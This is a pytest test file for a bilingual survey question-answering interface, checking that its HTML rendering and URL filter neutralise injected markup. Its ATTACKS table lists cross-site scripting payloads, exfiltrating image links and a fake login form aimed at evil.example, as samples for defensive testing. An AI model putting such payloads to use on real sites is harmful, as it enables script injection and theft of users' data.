import re
from html.parser import HTMLParser

import pytest

from ui.conversations import ConversationInfo
from ui.handlers import Cell, Chat, Source, Turn
from ui.rendering import (
    clean,
    render_conversations,
    render_head,
    render_messages,
    render_source,
    render_welcome,
    safe_url,
)

ATTACKS = {
    "script": "<script>fetch('//evil.example')</script>",
    "script in capitals": "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "image that fails": "<img src=x onerror=alert(1)>",
    "image with srcset": '<img srcset="https://evil.example/a 1x">',
    "svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "math": '<math href="javascript:alert(1)">x</math>',
    "iframe": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "form": '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
    "style": "<style>body{background:url(https://evil.example/)}</style>",
    "style attribute": '<p style="background:url(https://evil.example/)">x</p>',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "video": '<video poster="https://evil.example/a.png" src=x></video>',
    "details": "<details open ontoggle=alert(1)>x</details>",
    "our own button": '<button class="sq-mark" value="0.1">1</button>',
    "closing our tags": "</div></section><script>alert(1)</script>",
    "comment": "<!--<img src=x onerror=alert(1)>-->",
    "cdata": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "entities": "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;",
    "attribute border": '" onmouseover="alert(1)" x="',
    "javascript link": "[click](javascript:alert(1))",
    "javascript link with a tab": "[click](java\tscript:alert(1))",
    "javascript link in entities": "[click](&#106;avascript:alert(1))",
    "data link": "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "link with a user name": "[click](https://google.com@evil.example/)",
    "markdown image": "![loading](https://evil.example/?q=secret)",
    "reference image": "![loading][x]\n\n[x]: https://evil.example/?q=secret",
    "reference link": "[1]: javascript:alert(1)\n\n[1]",
    "autolink": "<javascript:alert(1)> <https://evil.example/\"onclick=alert(1)>",
    "formula": "$$\\href{javascript:alert(1)}{x}$$ \\(\\unicode{x}\\)",
    "mermaid": '```mermaid\ngraph TD\n A-->B\n click A "javascript:alert(1)"\n```',
    "html fence": "```html\n<script>alert(1)</script>\n\n<img src=x>\n```",
    "template": "${alert(1)} {{constructor.constructor('alert(1)')()}}",
    "right to left": "safe\u202egnp.exe\u2066 \u200b\U000e0041",
    "controls": "a\x00b\x1b[31mc\x07 \ud800",
}  # fmt: skip
ALLOWED = {
    "a": {"href", "target", "rel", "class"},
    "button": {"type", "class", "value", "title"},
    "div": {"class", "role"},
}
TAGS = {
    "a", "br", "button", "code", "div", "em", "footer", "h1", "h2", "header", "i", "li", "mark", "ol", "p", "pre", "section",
    "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip


class Page(HTMLParser):
    """What a browser would make of some HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag != "br":
            self.open.append(tag)

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        pytest.fail(f"a comment: {data}")


def assert_harmless(html: str) -> Page:
    page = Page(html)
    assert page.open == []
    assert "\n" not in html
    assert not re.search(
        "[\x00-\x08\x0a-\x1f\x7f\u202a-\u202e\u2066-\u2069\u200b\ud800-\udfff\U000e0000-\U000e007f]", html
    )
    for tag, attributes in page.tags:
        assert tag in TAGS
        assert attributes.keys() <= ALLOWED.get(tag, {"class"})
        if tag == "a":
            assert re.match(r"https?://[\w.-]+(/|$)", attributes["href"])
            assert attributes["rel"] == "noopener noreferrer nofollow"
            assert attributes["target"] == "_blank"
    return page


def source(**fields) -> Source:
    return Source(
        **{"number": 1, "document_id": "d", "title": "T", "section": "S", "quote": "Q", "label": "supported", **fields}
    )


def answered(text: str, *sources: Source, **fields) -> str:
    return render_messages(Chat((Turn("q", text, "answered", sources, **fields),)))[1]["content"]


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_words_of_an_answer_stay_text(attack):
    page = assert_harmless(answered(f"Before {attack} after [1].", source()))

    assert page.text.startswith("Before")
    values = {a["value"] for tag, a in page.tags if tag == "button" and "value" in a}
    assert values == {"0", "0.1"}  # the turn, whose answer the tools below it are for, and its source


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_words_of_a_document_stay_text_wherever_they_appear(attack):
    evil = source(
        document_id=attack, title=attack, section=attack, quote=attack, before=attack, after=attack, url=attack,
        byline=attack, remark=attack,
    )  # fmt: skip
    table = source(header=(attack,), rows=((Cell(attack, True), Cell(attack)),))

    for html in (render_source(evil, "en"), render_source(table, "zh"), answered("Text [1]", evil)):
        assert_harmless(html)


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_questions_errors_notes_and_examples_stay_text(attack):
    turns = (
        Turn(attack, "x", "refused", (source(title=attack),), notes=(attack,)),
        Turn(attack, attack, "failed", error=attack),
        Turn(attack, attack, "stopped"),
    )

    for message in render_messages(Chat(turns)):
        assert_harmless(message["content"])
    assert_harmless(render_welcome("zh", [attack]))


@pytest.mark.parametrize("attack", ["<img src=x onerror=alert(1)>", "**x** $$y$$", "[a](javascript:b)", "a\n\nb\n# c"])
def test_a_question_shows_exactly_what_was_typed(attack):
    (question, _) = render_messages(Chat((Turn(attack, "x", "answered"),)))

    assert assert_harmless(question["content"]).text == attack.replace("\n", "")


def test_the_second_net_holds_if_the_first_tears():
    from ui.rendering import seal

    html = seal('<div class="sq-x evil" onclick="a()"><img src=x><script>a()</script><b style="x">b</b></div>')

    assert html == '<div class="sq-x">b</div>'


def test_bold_lists_tables_code_and_links_are_drawn():
    html = answered("**b** `c`\n\n- one\n- two\n\n| h |\n| - |\n| d |\n\nSee https://arxiv.org/abs/2103.10360。")
    tags = [tag for tag, _ in Page(html).tags]

    assert {"strong", "code", "ul", "li", "table", "th", "td", "a"} <= set(tags)
    assert 'href="https://arxiv.org/abs/2103.10360"' in html


def test_a_mark_becomes_the_button_of_its_source():
    html = answered("Six gigabytes [2].", source(number=2, title="Notes", quote="6 GB", label="weak"))

    assert 'gigabytes<button type="button" class="sq-mark sq-weak" value="0.2" title="2: Notes">2' in html


def test_a_mark_without_a_source_stays_text():
    page = Page(answered("Six gigabytes [3].", source(number=2)))

    assert "Six gigabytes [3]." in page.text


def test_a_mark_beside_a_bracket_is_not_taken_for_a_link():
    html = answered("Six [1](notes) and [[1]](https://evil.example/)", source())

    assert html.count('class="sq-mark') == 2
    assert "(notes)" in html


def test_the_panel_marks_the_quoted_words_and_says_whether_they_support_the_statement():
    html = render_source(source(before="Before. ", quote="The words.", after=" After.", label="unsupported"), "en")

    assert "<mark>The words.</mark>" in html
    assert "does not support the statement" in html
    assert Page(html).text.index("Before.") < Page(html).text.index("The words.") < Page(html).text.index("After.")


def test_the_panel_links_to_the_original_only_over_http():
    assert 'href="https://example.org/a?b=1&amp;c=2"' in render_source(
        source(url="https://example.org/a?b=1&c=2"), "en"
    )
    assert "href" not in render_source(source(url="file:///etc/passwd"), "en")


def test_a_refusal_and_a_failure_look_different_from_an_answer():
    chat = Chat(
        (Turn("q", "No.", "refused"), Turn("q", "", "failed", error="Why."), Turn("q", "Yes.", "answered")),
        language="zh",
    )
    refused, failed, plain = (message["content"] for message in render_messages(chat) if message["role"] == "assistant")

    assert "sq-refused" in refused
    assert "资料里没有答案" in refused
    assert 'role="alert"' in failed
    assert "没能回答" in failed
    assert "sq-flag" not in plain


def test_sources_of_one_section_stand_together():
    html = answered("a [1] b [2] c [3]", source(), source(number=2), source(number=3, section="Other"))

    assert html.count('<li class="sq-place">') == 2


def test_an_endless_answer_is_cut():
    assert len(answered("word " * 100_000)) < 70_000


def test_an_answer_of_nothing_but_brackets_is_drawn_quickly():
    assert_harmless(answered("[" * 20_000 + "![" * 5_000 + "|" * 5_000))


@pytest.mark.parametrize(
    ("url", "kept"),
    [
        ("https://arxiv.org/abs/1", True),
        ("HTTP://example.org:8080/x?y=z#w", True),
        ("https://例子.测试/论文", True),
        ("javascript:alert(1)", False),
        ("//evil.example", False),
        ("https://", False),
        ("https:///arxiv.org/abs/1", False),
        ("https://user:pass@evil.example/", False),
        ("https://exa\u202emple.org/", False),
        ("https://example.org/ x", False),
        ("http://[::1", False),
        ("https://example.org/" + "a" * 2_000, False),
        (None, False),
    ],
)
def test_only_plain_web_addresses_become_links(url, kept):
    assert (safe_url(url) == url and url is not None) is kept


def test_characters_that_hide_or_reorder_are_removed_and_others_kept():
    assert clean("a\u202eb\u200bc\x00d\r\ne\u2028f\ud83d👩\u200d💻") == "abcd\ne\nf\ufffd👩\u200d💻"


def test_the_page_speaks_both_languages():
    assert "大模型综述问答" in render_head("zh")
    assert "LLM survey" in render_head("en")


def test_addresses_in_a_passage_can_be_followed():
    html = render_source(source(before="See https://arxiv.org/abs/1. ", quote="at http://a.example/x,", after=""), "en")

    assert [a["href"] for tag, a in Page(html).tags if tag == "a"] == ["https://arxiv.org/abs/1", "http://a.example/x"]
    assert "See https://arxiv.org/abs/1. at http://a.example/x," in Page(html).text


@pytest.mark.parametrize(("language", "words"), [("en", "Not on the disk yet"), ("zh", "还没有写入磁盘")])
def test_a_conversation_that_is_not_kept_says_so_in_the_list(language, words):
    kept, waiting = ConversationInfo("a", "A", "2026", 1), ConversationInfo("b", "B", "2026", 1, kept=False)

    assert words not in render_conversations([kept], "", language)
    assert words in render_conversations([kept, waiting], "", language)
